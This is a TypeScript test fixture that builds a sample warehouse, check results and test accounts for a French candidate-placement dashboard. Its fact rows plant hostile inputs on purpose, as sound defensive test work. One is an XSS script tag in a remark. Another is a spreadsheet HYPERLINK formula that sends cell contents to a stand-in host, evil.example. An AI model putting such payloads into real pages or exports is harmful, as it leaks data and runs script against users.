/**
 * A small warehouse written by hand for the dashboard tests: fact rows covering the traps (a remark
 * holding a script, a 400-character remark, a formula-like cell, missing CVs, Yes/No answers), a
 * materialisation log and check results, published as a serving snapshot, plus one account per
 * access profile.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { hashPassword } from '../auth/passwords.ts';
import { upsertAccount, type Account } from '../auth/users.ts';
import { publishServingSnapshot } from '../serving/publish.ts';
import { DuckDbWarehouse } from '../../warehouse/duckdb-warehouse.ts';
import type { ColumnSpec } from '../../warehouse/warehouse.ts';
import type { SqlValue } from '../../warehouse/dialect.ts';

export const SCRIPT_REMARK = '<script>alert(1)</script> Disponible dès lundi';
export const LONG_REMARK = `${'Très motivée, cherche une entreprise en logistique près de Lyon. '.repeat(6)}Fin.`.slice(0, 400);
export const FORMULA_REMARK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
export const PASSWORD = 'correct horse battery';

/** Accounts: one per access profile the tests exercise. */
export const ACCOUNTS: Omit<Account, 'passwordHash'>[] = [
  { login: 'admin', role: 'admin', regions: '*', sensitive: true },
  { login: 'lyon', role: 'placement', regions: ['UI Lyon Est'], sensitive: true },
  { login: 'sans-sensible', role: 'placement', regions: '*', sensitive: false },
  { login: 'lecteur', role: 'lecture', regions: '*', sensitive: false },
  // Target of the rate-limit test, so the other accounts stay usable.
  { login: 'bloque', role: 'lecture', regions: '*', sensitive: false },
];

/** A low scrypt cost keeps sign-ins fast in tests; production hashes use the recommended cost. */
const TEST_COST = { N: 2 ** 12, r: 8, p: 1 };

const FACT_COLUMNS: ColumnSpec[] = [
  { name: 'lead_id', type: 'int64' },
  { name: 'nom', type: 'string' },
  { name: 'prenom', type: 'string' },
  { name: 'telephone', type: 'string' },
  { name: 'email', type: 'string' },
  { name: 'region_candidat', type: 'string' },
  { name: 'ville_candidat', type: 'string' },
  { name: 'remarque_candidature', type: 'string' },
  { name: 'formation', type: 'string' },
  { name: 'parcours', type: 'string' },
  { name: 'region_formation', type: 'string' },
  { name: 'est_en_recherche', type: 'bool' },
  { name: 'est_actif', type: 'bool' },
  { name: 'qpv', type: 'string' },
  { name: 'rsa', type: 'string' },
  { name: 'rqth', type: 'string' },
  { name: 'contrat_alternance', type: 'string' },
  { name: 'mobilite', type: 'string' },
  { name: 'lien_cv', type: 'string' },
  { name: 'lien_fiche_crm', type: 'string' },
  { name: 'date_modification', type: 'timestamp' },
];

const ODOO = 'http://odoo.test';

/** The hand-written rows, in FACT_COLUMNS order. */
export function factRows(): SqlValue[][] {
  const row = (
    id: number,
    nom: string,
    prenom: string,
    fields: Partial<Record<string, SqlValue>> = {},
  ): SqlValue[] => {
    const values: Record<string, SqlValue> = {
      lead_id: id,
      nom,
      prenom,
      telephone: `06 00 00 00 ${String(id).padStart(2, '0')}`,
      email: `${prenom}.${nom}@exemple.fr`.toLowerCase(),
      region_candidat: 'Auvergne-Rhône-Alpes',
      ville_candidat: 'Lyon',
      remarque_candidature: null,
      formation: `${prenom} ${nom} - Développeur Web`,
      parcours: 'Alternance',
      region_formation: 'UI Lyon Est',
      est_en_recherche: true,
      est_actif: true,
      qpv: 'Non',
      rsa: 'Non',
      rqth: 'Non',
      contrat_alternance: "Contrat d'apprentissage",
      mobilite: 'Régionale',
      lien_cv: `${ODOO}/web/content/${1000 + id}?download=true`,
      lien_fiche_crm: `${ODOO}/web#id=${id}&model=crm.lead&view_type=form`,
      date_modification: '2026-12-01 10:00:00',
      ...fields,
    };
    return FACT_COLUMNS.map((column) => values[column.name] ?? null);
  };

  const rows: SqlValue[][] = [
    row(1, 'Martin', 'Élodie', { remarque_candidature: SCRIPT_REMARK, qpv: 'Oui' }),
    row(2, 'Bernard', 'Hugo', { remarque_candidature: LONG_REMARK, rqth: 'Oui', lien_cv: null }),
    row(3, 'Dubois', 'Chloé', {
      remarque_candidature: FORMULA_REMARK,
      region_formation: 'UI Paris Sud',
      region_candidat: 'Île-de-France',
      ville_candidat: 'Paris',
      formation: 'Chloé Dubois - Data Analyst',
      qpv: 'Yes',
      rsa: 'Yes',
    }),
    row(4, 'Thomas', 'Karim', {
      region_formation: 'UI Paris Sud',
      region_candidat: 'Île-de-France',
      ville_candidat: 'Créteil',
      formation: 'Karim Thomas - Data Analyst',
      parcours: 'Reconversion',
      rqth: 'Yes',
      email: '+33 6 12; "test"',
    }),
    row(5, 'Robert', 'Inès', {
      region_formation: 'UI Toulouse',
      region_candidat: 'Occitanie',
      ville_candidat: 'Toulouse',
      lien_cv: null,
      rsa: 'Oui',
    }),
    // Not in the search stage, or archived: never on the dashboard.
    row(6, 'Petit', 'Lucas', { est_en_recherche: false }),
    row(7, 'Durand', 'Léa', { est_actif: false }),
    row(8, 'Leroy', 'Nina', { region_formation: null, region_candidat: null, ville_candidat: null, qpv: null }),
  ];
  // Enough rows for two pages of 25 and for charts with several bars.
  const regions = [
    ['UI Lyon Est', 'Auvergne-Rhône-Alpes', 'Villeurbanne'],
    ['UI Toulouse', 'Occitanie', 'Blagnac'],
    ['UI Paris Sud', 'Île-de-France', 'Ivry-sur-Seine'],
    ['UI Bordeaux', 'Nouvelle-Aquitaine', 'Mérignac'],
  ];
  const trainings = ['Développeur Web', 'Data Analyst', 'Assistant RH'];
  for (let index = 0; index < 40; index += 1) {
    const [session, region, city] = regions[index % regions.length];
    const id = 100 + index;
    rows.push(
      row(id, `Nom${String(index).padStart(2, '0')}`, `Prénom${index}`, {
        region_formation: session,
        region_candidat: region,
        ville_candidat: city,
        formation: `Prénom${index} Nom${String(index).padStart(2, '0')} - ${trainings[index % trainings.length]}`,
        parcours: index % 5 === 0 ? 'Reconversion' : 'Alternance',
        qpv: index % 4 === 0 ? 'Oui' : 'Non',
        rqth: index % 7 === 0 ? 'Oui' : 'Non',
        lien_cv: index % 3 === 0 ? null : `${ODOO}/web/content/${2000 + index}?download=true`,
      }),
    );
  }
  return rows;
}

export type DashboardFixture = {
  dir: string;
  warehousePath: string;
  servingPath: string;
  usersFile: string;
  /** Opens the fixture warehouse (read and write) for comparisons; close it after use. */
  openWarehouse(): Promise<DuckDbWarehouse>;
  cleanup(): void;
};

/** Builds the warehouse, publishes the snapshot and writes the accounts, in a fresh temporary folder. */
export async function createDashboardFixture(options: { materializedAt?: string; failedRun?: boolean } = {}): Promise<DashboardFixture> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'placement-dashboard-'));
  const warehousePath = path.join(dir, 'warehouse.duckdb');
  const servingPath = path.join(dir, 'serving.duckdb');
  const usersFile = path.join(dir, 'users.yaml');

  const warehouse = await DuckDbWarehouse.open({ path: warehousePath, lakePath: (key) => key });
  try {
    const d = warehouse.dialect;
    await warehouse.createTableAs('fact_odoo_crm_opportunite', d.literalRows(FACT_COLUMNS, factRows()));
    const materializedAt = options.materializedAt ?? new Date().toISOString().replace('T', ' ').replace('Z', '');
    await warehouse.createTableAs(
      'placement_materialization',
      d.literalRows(
        [
          { name: 'run_date', type: 'date' },
          { name: 'asset', type: 'string' },
          { name: 'layer', type: 'string' },
          { name: 'rows', type: 'int64' },
          { name: 'materialized_at', type: 'timestamp' },
          { name: 'run_id', type: 'string' },
        ],
        [
          ['2026-12-04', 'stg_odoo_crm_lead', 'staging', 48, materializedAt, 'run-1'],
          ['2026-12-04', 'fact_odoo_crm_opportunite', 'fact', 48, materializedAt, 'run-1'],
        ],
      ),
    );
    const check = (runDate: string, name: string, status: string, failing: number, samples: string | null): SqlValue[] => [
      runDate, 'run-1', name, 'fact_odoo_crm_opportunite', name.includes('email') ? 'warn' : 'error', status, failing, 48, 0, samples, `${runDate} 06:00:00`,
    ];
    await warehouse.createTableAs(
      'placement_check_result',
      d.literalRows(
        [
          { name: 'run_date', type: 'date' },
          { name: 'run_id', type: 'string' },
          { name: 'check_name', type: 'string' },
          { name: 'asset', type: 'string' },
          { name: 'severity', type: 'string' },
          { name: 'status', type: 'string' },
          { name: 'failing_rows', type: 'int64' },
          { name: 'total_rows', type: 'int64' },
          { name: 'threshold', type: 'float64' },
          { name: 'sample_keys', type: 'string' },
          { name: 'checked_at', type: 'timestamp' },
        ],
        [
          check('2026-12-03', 'fact_odoo_crm_opportunite__email_valid', 'passed', 0, null),
          check('2026-12-04', 'fact_odoo_crm_opportunite__email_valid', 'failed', 2, '["karim.thomas@exemple.fr", "06 12 34 56 78"]'),
          check('2026-12-03', 'fact_odoo_crm_opportunite__lead_id_unique', 'passed', 0, null),
          check('2026-12-04', 'fact_odoo_crm_opportunite__lead_id_unique', 'passed', 0, null),
        ],
      ),
    );

    await publishServingSnapshot({
      warehouse,
      servingPath,
      runDate: '2026-12-04',
      runId: 'run-1',
      workflowId: 'daily-2026-12-04',
      status: 'succeeded',
      assets: [
        { key: 'stg_odoo_crm_lead', layer: 'staging', upstream: [] },
        { key: 'fact_odoo_crm_opportunite', layer: 'fact', upstream: ['stg_odoo_crm_lead'] },
      ],
    });
    if (options.failedRun) {
      await publishServingSnapshot({
        warehouse,
        servingPath,
        runDate: '2026-12-05',
        runId: 'run-2',
        workflowId: 'daily-2026-12-05',
        status: 'failed',
      });
    }
  } finally {
    await warehouse.close();
  }

  const passwordHash = await hashPassword(PASSWORD, TEST_COST);
  for (const account of ACCOUNTS) upsertAccount(usersFile, { ...account, passwordHash });

  return {
    dir,
    warehousePath,
    servingPath,
    usersFile,
    openWarehouse: () => DuckDbWarehouse.open({ path: warehousePath, lakePath: (key) => key }),
    cleanup: () => fs.rmSync(dir, { recursive: true, force: true }),
  };
}
